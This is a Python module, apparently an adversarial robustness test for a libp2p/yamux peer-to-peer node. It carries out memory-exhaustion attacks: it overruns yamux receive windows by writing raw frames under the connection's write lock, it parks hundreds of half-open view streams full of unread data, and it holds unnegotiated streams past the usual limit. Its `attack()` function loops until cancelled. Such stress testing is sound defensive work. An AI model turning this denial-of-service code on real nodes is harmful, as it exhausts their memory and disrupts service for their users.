"""Receive-window overruns and parked half-open streams: memory a peer could make a
node hold for data nobody reads.

Overrun: a view request, then, once the node has answered and stopped reading, raw
yamux DATA frames on that stream up to the credit the node granted and `past`
bytes beyond it. The frames are written on the muxed connection under its write
lock, as yamux itself writes them, bypassing our own yamux's respect of the send
window. A node that enforces its window resets the stream at the first frame past
the credit; one that does not buffers everything.

Half-open: view streams answered by the node and kept open by us, each then
given a full window of data the node never reads. A node that bounds a peer's
answered streams resets the oldest beyond its cap.

Unnegotiated: raw yamux streams that never finish multistream negotiation (more
than our own 256-stream limit on a connection). A node that caps a peer's streams
refuses those beyond its cap.

`counts` tallies window_overruns (streams written past their credit),
window_bytes_past_credit, window_resets_seen, half_open_streams (data parked),
half_open_refused, half_open_reset (parked, later reset by the node),
unnegotiated_streams, unnegotiated_reset.
"""

from __future__ import annotations

import collections
import contextlib
import struct

import trio
from libp2p.stream_muxer.yamux import yamux

from compushare.net.dial import dial
from compushare.net.framing import FramedStream
from compushare.net.gossip import MAX_VIEW_FRAME, VIEW_PROTOCOL

FRAME_BYTES = 1 << 20  # payload of one raw DATA frame (yamux's own limit per frame is 16 MiB)
PAST_BYTES = 128 << 20  # what one overrun sends beyond the credit
HALF_OPEN_STREAMS = 200
STEP_TIMEOUT_S = 20.0


async def _answered_view_stream(host, peer):
    """A view stream the node has answered and closed its side of: its handler has
    returned and nothing on the node reads what we send next."""
    stream = await host.new_stream(peer, [VIEW_PROTOCOL])
    framed = FramedStream(stream, MAX_VIEW_FRAME)
    await framed.send({"type": "view"})
    reply = await framed.receive()
    if reply is None or reply.get("type") != "view":
        raise EOFError(f"no view reply: {reply and reply.get('type')}")
    return stream


async def _raw_data(muxed, payload: bytes) -> None:
    conn = muxed.conn
    header = struct.pack(yamux.YAMUX_HEADER_FORMAT, 0, yamux.TYPE_DATA, 0, muxed.stream_id, len(payload))
    async with conn._write_lock:  # private in the pinned py-libp2p: frames must not interleave
        await conn.secured_conn.write(header + payload)


async def overrun(host, peer, counts: collections.Counter, *, past: int = PAST_BYTES,
                  stop_at_reset: bool = True) -> bool:
    """One overrun; True if the node reset the stream. With stop_at_reset False all
    of `past` is sent whatever the node did (what a test measures memory against)."""
    stream = await _answered_view_stream(host, peer)
    muxed = stream.muxed_stream
    credit = muxed.send_window  # what the node let us send and we have not
    sent, counted = 0, False
    try:
        while sent < credit + past:
            if muxed.reset_received and stop_at_reset:
                break
            # Exactly the credit first (the node must take that), then frames past it.
            size = min(FRAME_BYTES, (credit if sent < credit else credit + past) - sent)
            await _raw_data(muxed, bytes(size))
            sent += size
            if sent > credit:
                counts["window_bytes_past_credit"] += min(size, sent - credit)
                if not counted:
                    counts["window_overruns"] += 1
                    counted = True
        if not muxed.reset_received:  # the RST may still be on its way
            with trio.move_on_after(2.0):
                while not muxed.reset_received:
                    await trio.sleep(0.02)
    finally:
        reset = bool(muxed.reset_received)
        counts["window_resets_seen"] += reset
        with contextlib.suppress(Exception):
            await stream.reset()
    return reset


async def park_half_open(host, peer, counts: collections.Counter, streams: int, held: list) -> None:
    """Open `streams` answered view streams one after another, fill each one's window
    with data the node will not read, and keep them in `held`."""
    for _ in range(streams):
        try:
            with trio.fail_after(STEP_TIMEOUT_S):
                stream = await _answered_view_stream(host, peer)
                await stream.write(bytes(stream.muxed_stream.send_window))
        except Exception:  # reset by the node: over a cap
            counts["half_open_refused"] += 1
            continue
        held.append(stream)
        counts["half_open_streams"] += 1


async def park_unnegotiated(host, peer, counts: collections.Counter, streams: int, held: list) -> None:
    """Open `streams` raw streams, each starting a multistream message it never
    finishes, and keep them in `held`. (A node that reads a negotiation message of
    any announced length could be made to hold a window per stream and more; one that
    bounds the message holds the part sent until its negotiation deadline.)"""
    conn = host.get_network().get_connections(peer)[0]
    conn.muxed_conn.stream_backlog_semaphore = trio.Semaphore(1 << 20)  # our own 256-stream limit lifted
    start = b"\x13/multistream/1.0.0\n" + b"\xe8\x07/" + b"x" * 800  # a 1,000-byte line, 801 bytes of it
    for _ in range(streams):
        try:
            with trio.fail_after(STEP_TIMEOUT_S):
                stream = await conn.new_stream()
                await stream.write(start)
        except Exception:
            counts["unnegotiated_refused"] += 1
            continue
        held.append(stream)
        counts["unnegotiated_streams"] += 1


def resets_in(held: list) -> int:
    """How many of the streams in `held` the node has reset."""
    return sum(bool(getattr(stream.muxed_stream, "reset_received", False)) for stream in held)


async def attack(host, state: dict, model_id: str, counts: collections.Counter) -> None:
    """Until cancelled: HALF_OPEN_STREAMS parked and as many unnegotiated streams held
    throughout, and overruns one after another (model_id is not needed: the view
    protocol has none)."""
    info = await dial(host, state["peer_id"], state["addrs"], timeout=10)
    held: list = []
    try:
        await park_half_open(host, info.peer_id, counts, HALF_OPEN_STREAMS, held)
        counts["half_open_reset"] += resets_in(held)
        unnegotiated: list = []
        await park_unnegotiated(host, info.peer_id, counts, HALF_OPEN_STREAMS, unnegotiated)
        held += unnegotiated
        seen = 0
        while True:
            now = resets_in(unnegotiated)  # the node's negotiation deadline ends them
            counts["unnegotiated_reset"] += now - seen
            seen = now
            try:
                with trio.fail_after(STEP_TIMEOUT_S * 3):
                    await overrun(host, info.peer_id, counts)
            except Exception:
                counts["window_attack_errors"] += 1
                await trio.sleep(1.0)
    finally:
        with trio.CancelScope(shield=True), trio.move_on_after(5):
            for stream in held:
                with contextlib.suppress(Exception):
                    await stream.reset()
